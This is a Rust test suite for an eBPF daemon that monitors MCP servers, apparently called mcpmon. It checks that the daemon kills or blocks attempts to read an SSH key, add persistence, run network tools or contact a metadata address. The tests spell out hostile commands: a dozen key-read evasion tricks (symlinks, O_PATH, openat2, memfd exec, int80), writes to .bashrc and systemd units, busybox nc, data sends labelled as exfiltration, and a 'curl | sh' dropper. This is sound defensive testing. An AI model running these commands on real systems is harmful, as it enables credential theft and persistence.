//! Rules and enforcement end to end: the real daemon with the shipped rules (plus a test address
//! and the io_uring kill variant), real processes trying to read an SSH key by every known
//! detour. Each attempt must die before reading a byte, and the alert must name the rule.
mod common;

use std::{
    os::unix::process::ExitStatusExt,
    path::{Path, PathBuf},
    process::{Output, Stdio},
    time::{Duration, Instant},
};

use common::daemon::{exec_cmd, Daemon};
use serde_json::Value;

const SECRET: &str = "SECRET-KEY-MATERIAL-5f3a";

struct Setup {
    dir: tempfile::TempDir,
    home: PathBuf,
    key: PathBuf,
    passwd: PathBuf,
    rules: PathBuf,
}

/// A user whose home is outside /home (found only through the user database), with a key, a
/// shell rc file and a systemd user dir; a rules dir = shipped rules + test site list.
fn setup() -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("srv-users/mallory");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(".config/systemd/user")).unwrap();
    let key = home.join(".ssh/id_ed25519");
    std::fs::write(&key, format!("{SECRET}\n")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519.pub"), "ssh-ed25519 AAAA public\n").unwrap();
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    let passwd = dir.path().join("passwd");
    std::fs::write(&passwd, format!("root:x:0:0:root:/root:/bin/sh\nmallory:x:4242:4242::{}:/bin/sh\n", home.display())).unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    for e in std::fs::read_dir(&shipped).unwrap().flatten() {
        let name = e.file_name().into_string().unwrap();
        if !name.ends_with(".yaml") {
            continue;
        }
        let mut text = std::fs::read_to_string(e.path()).unwrap();
        if name == "local.yaml" {
            // Tests never leave loopback: a loopback address stands in for the metadata service.
            text = text.replace("extra_denied_addrs: []", "extra_denied_addrs: [127.0.0.254/32]");
            // A stand-in for netcat (not installed here): a copy of `true` in the test dir.
            let tool = dir.path().join("fake-netcat");
            std::fs::copy("/bin/true", &tool).unwrap();
            text = text.replace("extra_denied_executables: []", &format!("extra_denied_executables: [{}]", tool.display()));
        }
        std::fs::write(rules.join(&name), text).unwrap();
    }
    Setup { dir, home, key, passwd, rules }
}

fn start(s: &Setup, extra: &[&str]) -> Daemon {
    let mut args = vec!["--passwd", s.passwd.to_str().unwrap(), "--rules", s.rules.to_str().unwrap()];
    args.extend_from_slice(extra);
    let d = Daemon::start(&args);
    let loaded = d.expect("rules_loaded", |v| v["kind"] == "rules_loaded");
    assert!(loaded["policy"]["rules"].as_u64().unwrap() >= 14, "{loaded}");
    d
}

/// Runs `script` under `mcpmon exec` as server `name`; returns its output.
fn victim(d: &Daemon, name: &str, script: &str) -> Output {
    exec_cmd(&d.socket, name, &[], &["/bin/sh", "-c", script]).stdin(Stdio::null()).output().unwrap()
}

fn alerts_for(d: &Daemon, server: &str, rule: &str) -> Value {
    d.expect(&format!("alert {rule} for {server}"), |v| v["kind"] == "alert" && v["server"]["name"] == server && v["rule"]["id"] == rule)
}

fn assert_killed_before_read(d: &Daemon, name: &str, out: &Output) {
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains(SECRET), "{name}: the key was read: {stdout}");
    let a = alerts_for(d, name, "ssh-private-key-read");
    assert_eq!(a["rule"]["severity"], "critical");
    assert!(a["rule"]["mitre"].as_array().unwrap().iter().any(|t| t == "T1552.004"));
    let pid = a["process"]["pid"].as_u64().unwrap();
    d.expect(&format!("{name}: pid {pid} died of SIGKILL"), |v| v["kind"] == "exit" && v["pid"] == pid && v["signal"] == 9);
    // The open gate (or, where the daemon reports it, the fentry kill at security_file_open)
    // refuses the open before an fd exists and kills the opener. Where both act, the kernel's
    // SIGKILL is pending while the gate's permission event waits, either record may come first,
    // and the gate's says only "denied" (its opener was already dying, so its own kill found no
    // process): one of the open's alerts must show the refusal and the kill.
    let all: Vec<Value> = d
        .records()
        .into_iter()
        .filter(|v| v["kind"] == "alert" && v["server"]["name"] == name && v["rule"]["id"] == "ssh-private-key-read" && v["process"]["pid"] == pid)
        .collect();
    if !all.iter().any(|a| d.refused_before_fd(a, true)) {
        d.assert_refused_before_fd(&a, true, name);
    }
}

/// The attack issue 16 describes: flood the ring first, then read the key. The flood folds into
/// a count (nothing is lost, no rule goes blind) and the read still dies in the kernel.
#[test]
fn a_flood_before_the_key_read_hides_nothing() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let d = start(&s, &[]);
    let noise = s.dir.path().join("noise");
    std::fs::write(&noise, "n").unwrap();
    let flood = format!("{} loop open 500000 {}", env!("CARGO_BIN_EXE_mcpmon-testkit"), noise.display());
    let out = victim(&d, "flood-then-steal", &format!("{flood} && cat {}; echo after", s.key.display()));
    assert_killed_before_read(&d, "flood-then-steal", &out);
    let (_, recs) = d.stop_with_records();
    let counted: u64 = recs
        .iter()
        .filter(|v| v["kind"] == "open" && v["server"] == "flood-then-steal" && v["path"] == noise.display().to_string())
        .map(|v| v["folded"]["count"].as_u64().unwrap_or(1))
        .sum();
    assert_eq!(counted, 500_000, "every open of the flood is accounted for");
    assert!(!recs.iter().any(|v| v["rule"]["id"] == "blind-spot"), "the flood blinded nothing");
}

#[test]
fn ssh_key_reads_die_in_the_kernel_whatever_the_path() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let d = start(&s, &[]);
    let key = s.key.display().to_string();
    let work = s.dir.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let w = work.display().to_string();
    let py = common::python();
    let rel_from_home = format!("cd {}/.ssh && cat ../.ssh/./id_ed25519", s.home.display());

    let cases: Vec<(&str, String)> = vec![
        ("direct", format!("cat {key}; echo after")),
        ("symlink", format!("ln -s {key} {w}/sym && cat {w}/sym")),
        ("hardlink", format!("ln {key} {w}/hard && cat {w}/hard")),
        ("relative", rel_from_home),
        ("proc-root", format!("cat /proc/self/root{key}")),
        ("renamed-cat", format!("cp /bin/cat {w}/notcat && {w}/notcat {key}")),
        (
            "opath-reopen",
            format!("{py} -c \"import os,sys; fd=os.open('{key}', os.O_PATH); sys.stdout.write(open('/proc/self/fd/%d' % fd).read())\""),
        ),
        (
            "openat2-resolve",
            // openat2(AT_FDCWD, key, {O_RDONLY, 0, RESOLVE_NO_MAGICLINKS|RESOLVE_NO_SYMLINKS}, 24)
            format!(
                "{py} -c \"import ctypes,os,struct,sys; libc=ctypes.CDLL(None,use_errno=True); how=ctypes.create_string_buffer(struct.pack('QQQ',0,0,6)); \
                 fd=libc.syscall(437,-100,b'{key}',how,24); sys.stdout.write(os.read(fd,100).decode() if fd>=0 else 'openat2 failed')\""
            ),
        ),
        (
            "comm-spoof",
            format!("{py} -c \"import ctypes,sys; ctypes.CDLL(None).prctl(15,b'sshd',0,0,0); sys.stdout.write(open('{key}').read())\""),
        ),
        // The ia32 syscall entry from a 64-bit process: no per-syscall tracepoint sees it.
        ("int80-compat", format!("{} loop int80-read 1 {key}", env!("CARGO_BIN_EXE_mcpmon-testkit"))),
        ("setsid-double-fork", format!("setsid sh -c '(cat {key} > {w}/stolen; echo done >> {w}/stolen) &' ; sleep 1")),
        (
            "memfd-exec",
            format!(
                "{py} -c \"import os; fd=os.memfd_create('stage2'); os.write(fd, open('/bin/cat','rb').read()); os.execv('/proc/self/fd/%d' % fd, ['cat', '{key}'])\""
            ),
        ),
    ];
    for (name, script) in &cases {
        let out = victim(&d, name, script);
        assert_killed_before_read(&d, name, &out);
    }
    // The double-forked, setsid'd grandchild died at the open; its shell carried on without it.
    let stolen = std::fs::read_to_string(work.join("stolen")).unwrap_or_default();
    assert!(!stolen.contains(SECRET), "{stolen:?}");
    // The memfd exec itself is alerted.
    let a = alerts_for(&d, "memfd-exec", "exec-from-temp-or-memory");
    // The image is a memfd; once the process is dead only the name it was exec'd by remains.
    let exe = a["process"]["exe"].as_str().unwrap();
    assert!(exe.starts_with("/memfd:stage2") || exe.starts_with("/proc/self/fd/"), "{a}");

    // The public key and other files stay readable.
    let out = victim(&d, "pubkey", &format!("cat {}.pub", key));
    assert!(out.status.success() && String::from_utf8_lossy(&out.stdout).contains("public"));

    // A key created after start-up is protected once the periodic rescan sees it.
    let newkey = s.home.join(".ssh/id_new");
    std::fs::write(&newkey, format!("{SECRET}\n")).unwrap();
    let nk = newkey.display().to_string();
    d.expect("the rescan protects the new key", |v| v["kind"] == "protected_changed" && v["added"].as_array().is_some_and(|a| a.iter().any(|p| p == nk.as_str())));
    let out = victim(&d, "new-key", &format!("cat {}", newkey.display()));
    assert_killed_before_read(&d, "new-key", &out);

    // Nothing killed the daemon or anything untracked: an untracked reader still works.
    let plain = std::process::Command::new("cat").arg(&s.key).output().unwrap();
    assert!(String::from_utf8_lossy(&plain.stdout).contains(SECRET), "untracked processes are not policed");
    d.stop();
}

#[test]
fn persistence_writes_die_and_files_stay_unchanged() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let d = start(&s, &[]);
    let rc = s.home.join(".bashrc");
    let out = victim(&d, "rc-append", &format!("echo 'export PATH=/tmp/evil:$PATH' >> {}", rc.display()));
    assert_eq!(out.status.signal(), Some(9), "{out:?}");
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# rc\n", "rc file unchanged");
    let a = alerts_for(&d, "rc-append", "persistence-write");
    assert_eq!(a["action"]["result"], "killed_in_kernel");

    // A new file in a protected directory: created empty, the writer dies before writing.
    let unit = s.home.join(".config/systemd/user/evil.service");
    let out = victim(&d, "unit", &format!("printf '[Service]\\nExecStart=/tmp/x\\n' > {}", unit.display()));
    assert_eq!(out.status.signal(), Some(9), "{out:?}");
    assert_eq!(std::fs::read_to_string(&unit).unwrap_or_default(), "", "no byte written");
    alerts_for(&d, "unit", "persistence-write");
    // A drop-in directory made now, below the protected one: the writer dies in the kernel too.
    let dropin = s.home.join(".config/systemd/user/ssh-agent.service.d");
    let conf = dropin.join("override.conf");
    // Two guards race here, and every outcome keeps the unit out. The persistence watch moves
    // the new directory to quarantine: the write then finds no directory, or, when the move
    // lands between the open and its exit's check (which then sees the quarantine as the
    // grandparent), the shell writes into the file where it now is, in quarantine (seen once
    // in a full run of the suite). Or the kernel kills the writer at its open inside it.
    let out = victim(&d, "dropin", &format!("mkdir -p {} && printf '[Service]\nExecStartPre=/tmp/x\n' > {}", dropin.display(), conf.display()));
    assert_eq!(std::fs::read_to_string(&conf).unwrap_or_default(), "", "no byte written where systemd looks");
    let a = alerts_for(&d, "dropin", "persistence-write");
    if out.status.signal() == Some(9) {
        d.expect("the kernel's kill of the drop-in writer", |v| v["kind"] == "alert" && v["server"]["name"] == "dropin" && v["action"]["result"] == "killed_in_kernel");
        let _ = a;
    } else {
        assert!(!dropin.exists(), "the drop-in directory went to quarantine: {out:?}");
    }
    // Work handed to a daemon outside the tree (tmux here; systemd-run, at, crontab alike).
    let tmux = common::tool("/usr/bin/tmux");
    if let Some(tmux) = tmux {
        let out = victim(&d, "detach", &format!("{} -L mcpmon-test new -d 'sleep 1'; echo rc=$?", tmux.display()));
        assert!(String::from_utf8_lossy(&out.stdout).contains("rc=137"), "{out:?}");
        let a = alerts_for(&d, "detach", "detached-execution");
        assert_eq!(a["action"]["result"], "killed_in_kernel", "{a}");
    }
    // A network tool run as a busybox applet: named by what it runs, killed.
    if let Some(bb) = common::tool("/usr/bin/busybox") {
        let out = victim(&d, "applet", &format!("{} nc 127.0.0.1 9 </dev/null; echo rc=$?", bb.display()));
        let a = alerts_for(&d, "applet", "network-tool-exec");
        assert!(matches!(a["action"]["result"].as_str(), Some("killed") | Some("gone")), "{a}");
        assert!(String::from_utf8_lossy(&out.stdout).contains("rc="), "the shell carried on: {out:?}");
        // One that lingers in its exit: the kernel forgets it at its exit's start, and freeing
        // an unlinked 1 GiB tmpfs file it inherited holds it there (~0.1 s), neither tracked nor
        // yet exited, while its exec is judged. Its kill was reported refused, "pid reused?",
        // which an SRE reads as enforcement sidestepped (seen once in CI with a plain `nc`).
        let py = common::python();
        let script = format!(
            "{py} -c \"import os; fd=os.open('/dev/shm/mcpmon-lingers-%d' % os.getpid(),os.O_RDWR|os.O_CREAT|os.O_EXCL); \
             os.unlink('/dev/shm/mcpmon-lingers-%d' % os.getpid()); os.posix_fallocate(fd,0,1<<30); os.set_inheritable(fd,True); \
             os.execv('{}',['busybox','nc','127.0.0.1','9'])\" </dev/null; echo rc=$?",
            bb.display()
        );
        let out = victim(&d, "applet-lingers", &script);
        assert!(String::from_utf8_lossy(&out.stdout).contains("rc="), "{out:?}");
        let a = alerts_for(&d, "applet-lingers", "network-tool-exec");
        assert!(matches!(a["action"]["result"].as_str(), Some("killed") | Some("gone")), "{a}");
    }
    // Reading the rc file is fine.
    let out = victim(&d, "rc-read", &format!("cat {}", rc.display()));
    assert!(out.status.success());
    d.stop();
}

#[test]
fn metadata_deny_udp_and_io_uring() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let d = start(&s, &[]);
    let py = common::python();
    // TCP connect and UDP sendto to the denied (test) address: EPERM, the process lives.
    let script = format!(
        "{py} -c \"import socket,errno\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n  s=socket.socket(socket.AF_INET, kind)\n  try:\n    s.connect(('127.0.0.254', 9)) if kind==socket.SOCK_STREAM else s.sendto(b'AKIA-exfil', ('127.0.0.254', 53))\n    print('sent', kind)\n  except PermissionError:\n    print('eperm', kind)\n\""
    );
    let out = victim(&d, "net", &script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "the process lives: {out:?}");
    assert_eq!(stdout.matches("eperm").count(), 2, "{stdout}");
    // sendmsg with a destination (msg_name) is refused the same way.
    let out = victim(&d, "net-sendmsg", &format!("{py} -c \"import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n  s.sendmsg([b'exfil'], [], 0, ('127.0.0.254', 123)); print('sent')\nexcept PermissionError:\n  print('eperm')\n\""));
    assert!(String::from_utf8_lossy(&out.stdout).contains("eperm"), "{out:?}");
    let sm = d.expect("sendmsg deny alert", |v| v["kind"] == "alert" && v["rule"]["id"] == "cloud-metadata-connect" && v["server"]["name"] == "net-sendmsg");
    assert_eq!(sm["event"]["port"], 123, "{sm}");
    let deny = d.expect("connect deny alert", |v| v["kind"] == "alert" && v["rule"]["id"] == "cloud-metadata-connect" && v["event"]["kind"] == "connect");
    assert_eq!(deny["action"]["result"], "denied_in_kernel", "{deny}");
    assert_eq!(deny["event"]["result"]["errno"], "EPERM");
    let send = d.expect("udp deny alert", |v| v["kind"] == "alert" && v["rule"]["id"] == "cloud-metadata-connect" && v["event"]["kind"] == "send");
    assert_eq!(send["event"]["port"], 53);
    // A batch of datagrams in one sendmmsg: refused, and seen (the alert names the send).
    let out = victim(&d, "net-sendmmsg", &format!("{} loop sendmmsg 3 127.0.0.254:5353", env!("CARGO_BIN_EXE_mcpmon-testkit")));
    assert!(String::from_utf8_lossy(&out.stdout).contains("errno=1"), "{out:?}");
    let a = d.expect("sendmmsg deny alert", |v| v["kind"] == "alert" && v["rule"]["id"] == "cloud-metadata-connect" && v["server"]["name"] == "net-sendmmsg");
    assert_eq!((a["event"]["kind"].as_str(), a["event"]["port"].as_u64()), (Some("send"), Some(5353)), "{a}");
    assert_eq!(a["action"]["result"], "denied_in_kernel", "{a}");
    // The same connect through the ia32 entry (int $0x80): refused, and marked as such.
    let out = victim(&d, "net-ia32", &format!("{} loop int80-dial 1 127.0.0.254:9", env!("CARGO_BIN_EXE_mcpmon-testkit")));
    assert!(String::from_utf8_lossy(&out.stdout).contains("eperm"), "{out:?}");
    let a = d.expect("ia32 connect deny alert", |v| v["kind"] == "alert" && v["rule"]["id"] == "cloud-metadata-connect" && v["server"]["name"] == "net-ia32");
    assert_eq!(a["action"]["result"], "denied_in_kernel", "{a}");
    assert_eq!(a["event"]["compat_syscall"], true, "{a}");
    // The same address written as IPv4-mapped IPv6 (`::ffff:a.b.c.d`) on an AF_INET6 socket.
    let out = victim(&d, "net-mapped", &format!("{py} -c \"import socket\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n  s=socket.socket(socket.AF_INET6, kind)\n  try:\n    s.connect(('::ffff:127.0.0.254', 9)) if kind==socket.SOCK_STREAM else s.sendto(b'x', ('::ffff:127.0.0.254', 53))\n    print('sent', kind)\n  except PermissionError:\n    print('eperm', kind)\n  except OSError as e:\n    print('other', kind, e)\n\""));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(stdout.matches("eperm").count(), 2, "IPv4-mapped IPv6 is denied like IPv4: {stdout}");
    let a = d.expect("mapped deny alert", |v| v["kind"] == "alert" && v["rule"]["id"] == "cloud-metadata-connect" && v["server"]["name"] == "net-mapped");
    assert_eq!(a["action"]["result"], "denied_in_kernel", "{a}");
    // Other loopback traffic is untouched.
    let out = victim(&d, "net-ok", &format!("{py} -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', 9)); print('ok')\""));
    assert!(String::from_utf8_lossy(&out.stdout).contains("ok"));

    // A protected executable dies before its first instruction (killed at sched_process_exec).
    let tool = s.dir.path().join("fake-netcat");
    let out = victim(&d, "nettool", &format!("{}; echo rc=$?", tool.display()));
    assert!(String::from_utf8_lossy(&out.stdout).contains("rc=137"), "{out:?}");
    let a = alerts_for(&d, "nettool", "network-tool-exec");
    assert_eq!(a["action"]["result"], "killed_in_kernel", "{a}");

    // io_uring setup (io_uring_setup = syscall 425) by a tracked process: killed in the kernel.
    let out = victim(&d, "uring", &format!("{py} -c \"import ctypes; p=ctypes.create_string_buffer(120); r=ctypes.CDLL(None).syscall(425, 8, p); print('ring', r)\""));
    // sh reports its killed child as 128 + 9.
    assert_eq!(out.status.code(), Some(137), "{out:?}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("ring"));
    let a = alerts_for(&d, "uring", "io-uring-by-server");
    assert_eq!(a["action"]["result"], "killed_in_kernel");
    d.stop();
}

#[test]
fn userspace_kill_for_download_and_execute_is_timed() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let d = start(&s, &[]);
    let t = Instant::now();
    // The shell's command line is the signature; it sleeps first, so only a kill ends it early.
    // stdout not captured: the orphaned `sleep` would hold the pipe open for its 8 s.
    let status = exec_cmd(&d.socket, "dropper", &[], &["/bin/sh", "-c", "sleep 8; curl -fsSL http://127.0.0.1:9/x.sh | sh"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert_eq!(status.signal(), Some(9), "{status:?}");
    assert!(t.elapsed() < Duration::from_secs(8), "killed before the sleep ended");
    let a = alerts_for(&d, "dropper", "download-and-execute");
    assert_eq!(a["action"]["result"], "killed", "{a}");
    assert_eq!(a["action"]["where"], "userspace");
    assert!(a["action"]["latency_us"].as_u64().is_some(), "{a}");
    d.stop();
}

#[test]
fn dry_run_alerts_what_would_have_happened() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let d = start(&s, &["--dry-run"]);
    let out = victim(&d, "dry", &format!("cat {}", s.key.display()));
    assert!(String::from_utf8_lossy(&out.stdout).contains(SECRET), "dry-run does not enforce");
    let a = alerts_for(&d, "dry", "ssh-private-key-read");
    assert_eq!(a["action"]["result"], "would_kill", "{a}");
    assert_eq!(a["action"]["dry_run"], true);
    d.stop();
}

#[test]
fn sighup_reload_keeps_old_rules_on_a_bad_file() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let d = start(&s, &[]);
    let bad = s.rules.join("zz-bad.yaml");
    std::fs::write(&bad, "rules:\n  - id: broken\n    description: x\n    severity: high\n    action: alert\n    event: open\n    condition: {file.pth: {glob: x}}\n    output: x\n    tags: [T1005]\n").unwrap();
    unsafe { libc::kill(d.pid() as i32, libc::SIGHUP) };
    let r = d.expect("reload rejected", |v| v["kind"] == "rules_reloaded");
    assert_eq!(r["ok"], false);
    let err = r["error"].as_str().unwrap();
    assert!(err.contains("zz-bad.yaml:7") && err.contains("file.pth"), "{err}");
    // Old rules still enforce.
    let out = victim(&d, "after-bad-reload", &format!("cat {}", s.key.display()));
    assert_killed_before_read(&d, "after-bad-reload", &out);
    std::fs::remove_file(&bad).unwrap();
    // A new file that sorts first puts its rule before all others: slots must not shift, so
    // the kernel's kill is still reported as the key rule, and the new rule counts.
    let first = s.rules.join("aa-first.yaml");
    std::fs::write(&first, "rules:\n  - id: aa-new\n    description: x\n    severity: low\n    action: alert\n    event: open\n    condition: {file.path: {equals: /nonexistent/aa}}\n    output: x\n    tags: [T1005]\n").unwrap();
    unsafe { libc::kill(d.pid() as i32, libc::SIGHUP) };
    let ok = d.expect("reload ok", |v| v["kind"] == "rules_reloaded" && v["ok"] == true);
    let before = d.records().iter().find(|v| v["kind"] == "rules_loaded").unwrap()["policy"]["rules"].as_u64().unwrap();
    assert_eq!(ok["policy"]["rules"].as_u64(), Some(before + 1), "{ok}");
    let out = victim(&d, "after-good-reload", &format!("cat {}", s.key.display()));
    assert_killed_before_read(&d, "after-good-reload", &out);
    d.stop();
}

#[test]
fn shipped_rules_lint_clean_and_a_bad_fixture_fails() {
    let out = std::process::Command::new(common::daemon::MCPMON).args(["rules", "lint", concat!(env!("CARGO_MANIFEST_DIR"), "/../rules")]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("0 failures"));
    let s = setup();
    let text = std::fs::read_to_string(s.rules.join("credential_access.yaml")).unwrap();
    std::fs::write(s.rules.join("credential_access.yaml"), text.replace("/home/alice/.ssh/known_hosts", "/home/alice/.ssh/id_rsa")).unwrap();
    let out = std::process::Command::new(common::daemon::MCPMON).args(["rules", "lint"]).arg(&s.rules).output().unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("ssh-private-key-read") && err.contains("no_match fixture #2 matched"), "{err}");
}

#[test]
fn a_real_mcp_server_reading_the_key_dies_and_the_alert_names_the_tool_call() {
    if !common::can_load_ebpf() {
        return;
    }
    let Some(peers) = common::peers() else { return };
    let s = setup();
    let d = start(&s, &[]);
    let fs_server = peers.join("node_modules/.bin/mcp-server-filesystem");
    let key = s.key.display().to_string();
    let socket = d.socket.to_str().unwrap().to_string();
    let home = s.home.display().to_string();
    let cmd = [common::daemon::MCPMON, "exec", "--name", "filesystem", "--require-monitor", "--socket", &socket, "--", "node", fs_server.to_str().unwrap(), &home];
    let calls = serde_json::json!([
        {"tool": ["list_directory"], "arguments": {"path": home}},
        {"tool": ["read_text_file", "read_file"], "arguments": {"path": key}},
    ]);
    let client = common::mcp_client(&peers, calls, None, &cmd);
    let text = client.to_string();
    assert!(!text.contains(SECRET), "the key reached the client: {text}");
    let call = &client["calls"][1];
    assert!(call["failed"].is_string(), "the server died during the call: {call}");
    let a = alerts_for(&d, "filesystem", "ssh-private-key-read");
    d.assert_refused_before_fd(&a, true, "filesystem");
    assert_eq!(a["mcp"]["state"], "call", "{a}");
    assert_eq!(a["mcp"]["tool"], call["tool"], "{a}");
    assert_eq!(a["mcp"]["id"], call["id"].to_string(), "{a}");
    assert_eq!(a["mcp"]["arguments"]["path"], key);
    assert!(a["summary"].as_str().unwrap().contains(&key), "{a}");
    d.expect("the call ends unanswered", |v| v["kind"] == "tool_call" && v["server"] == "filesystem" && v["id"] == call["id"].to_string() && v["outcome"] == "unanswered");
    d.stop();
}

#[test]
fn profiles_learned_then_enforced() {
    if !common::can_load_ebpf() {
        return;
    }
    let s = setup();
    let profiles = s.dir.path().join("profiles");
    let p = profiles.to_str().unwrap();
    // Learn: the server reads /etc/hostname.
    let args = vec!["--passwd", s.passwd.to_str().unwrap(), "--rules", s.rules.to_str().unwrap(), "--profiles", p];
    let d = common::daemon::Daemon::start_cmd("profile", "learn", &args);
    let out = victim(&d, "profiled", "cat /etc/hostname");
    assert!(out.status.success());
    d.expect("exit", |v| v["kind"] == "server_gone" && v["server"] == "profiled");
    d.stop();
    let text = std::fs::read_to_string(profiles.join("profiled.yaml")).unwrap();
    let prof: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
    // Whole entries, not substrings ("/bin/cat" is inside "/usr/bin/cat").
    fn strings(v: &serde_yaml::Value, out: &mut Vec<String>) {
        match v {
            serde_yaml::Value::String(s) => out.push(s.clone()),
            serde_yaml::Value::Sequence(l) => l.iter().for_each(|x| strings(x, out)),
            serde_yaml::Value::Mapping(m) => m.values().for_each(|x| strings(x, out)),
            _ => {}
        }
    }
    let mut entries = Vec::new();
    strings(&prof, &mut entries);
    assert!(entries.iter().any(|e| e == "/etc/hostname"), "the file it read is learned: {text}");
    assert!(entries.iter().any(|e| e == "/usr/bin/cat" || e == "/bin/cat"), "the executable it ran is learned: {text}");
    assert_eq!(prof["server"], "profiled");

    // Enforce: the same behaviour is quiet, a new file is alerted.
    let d = start(&s, &["--profiles", p]);
    let out = victim(&d, "profiled", "cat /etc/hostname; cat /etc/os-release >/dev/null");
    assert!(out.status.success());
    // The file the kernel opened (/etc/os-release is a symlink on Debian), not the text written.
    let real = std::fs::canonicalize("/etc/os-release").unwrap().display().to_string();
    let a = d.expect("outside-profile for the new file", |v| v["kind"] == "alert" && v["rule"]["id"] == "outside-profile" && v["file"] == real.as_str());
    assert_eq!(a["server"]["name"], "profiled");
    d.expect("server_gone", |v| v["kind"] == "server_gone" && v["server"] == "profiled");
    let (_, recs) = d.stop_with_records();
    let outside: Vec<_> = recs.iter().filter(|v| v["kind"] == "alert" && v["rule"]["id"] == "outside-profile").collect();
    assert!(outside.iter().all(|v| v["file"] != "/etc/hostname"), "learned behaviour is not alerted: {outside:?}");
}
